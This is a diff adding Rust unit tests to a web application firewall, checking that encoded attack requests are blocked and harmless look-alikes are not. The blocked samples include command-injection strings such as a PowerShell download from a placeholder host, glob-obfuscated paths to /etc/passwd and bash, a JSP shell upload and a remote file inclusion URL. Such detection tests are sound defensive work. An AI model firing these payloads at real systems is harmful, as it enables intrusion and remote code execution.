@@ -247,3 +247,46 @@ fn inspection_is_total_on_random_requests() {
         let _ = w.outcome(&s);
     }
 }
+
+#[test]
+fn windows_batch_powershell_globbed_paths_and_process_substitution_are_command_injection() {
+    let waf = waf_with("{}");
+    for target in [
+        "/get?foo=for%20%25v%20in%20%28set%29%20do%20command",
+        "/get?foo=IF+%25ERRORLEVEL%25+NEQ+0+echo+failed",
+        "/get?foo=if+not+%282+equ+2%29+echo+hey",
+        "/get?cmd=%3Biwr%20http://example.com/p.ps1",
+        "/get?s=/etc/pas%5Bs%5Dwd",
+        "/get?shell=%2Fusr%2F%5Ba-z%5Din%2Fbash",
+        "/get?out=%3E%28tee%20log%29",
+    ] {
+        assert!(blocked_category(&outcome(&waf, target), Category::Rce), "{target}");
+    }
+    for target in [
+        "/search?q=if+you+want+to+go%2C+do+it",
+        "/docs?path=/usr/share/doc/readme",
+        "/items?filter=tags%5B0%5D",
+        "/search?q=for+each+item+in+the+list+do+something",
+    ] {
+        assert!(!outcome(&waf, target).blocked, "{target}");
+    }
+}
+
+#[test]
+fn java_runtime_class_paths_corba_and_jsp_uploads_are_java_attacks() {
+    let waf = waf_with("{}");
+    assert!(blocked_category(&outcome(&waf, "/x?test=java.Runtime"), Category::Java));
+    assert!(blocked_category(&outcome(&waf, "/x?test=org.omg.CORBA"), Category::Java));
+    let body =
+        "--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"shell.jspx \"\r\n\r\n<% x %>\r\n--b--\r\n";
+    assert!(blocked_category(&post("/upload", "multipart/form-data; boundary=b", body, &waf), Category::Java));
+    let ok = "--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"report.pdf\"\r\n\r\n%PDF\r\n--b--\r\n";
+    assert!(!post("/upload", "multipart/form-data; boundary=b", ok, &waf).blocked);
+}
+
+#[test]
+fn known_inclusion_parameters_with_a_remote_url_are_caught_on_the_request_uri() {
+    let waf = waf_with("{}");
+    let o = outcome(&waf, "/plugins/BaseAdmin.class.php?_CONF[path]=https://foo.bar");
+    assert!(blocked_category(&o, Category::Rfi), "{o:?}");
+}
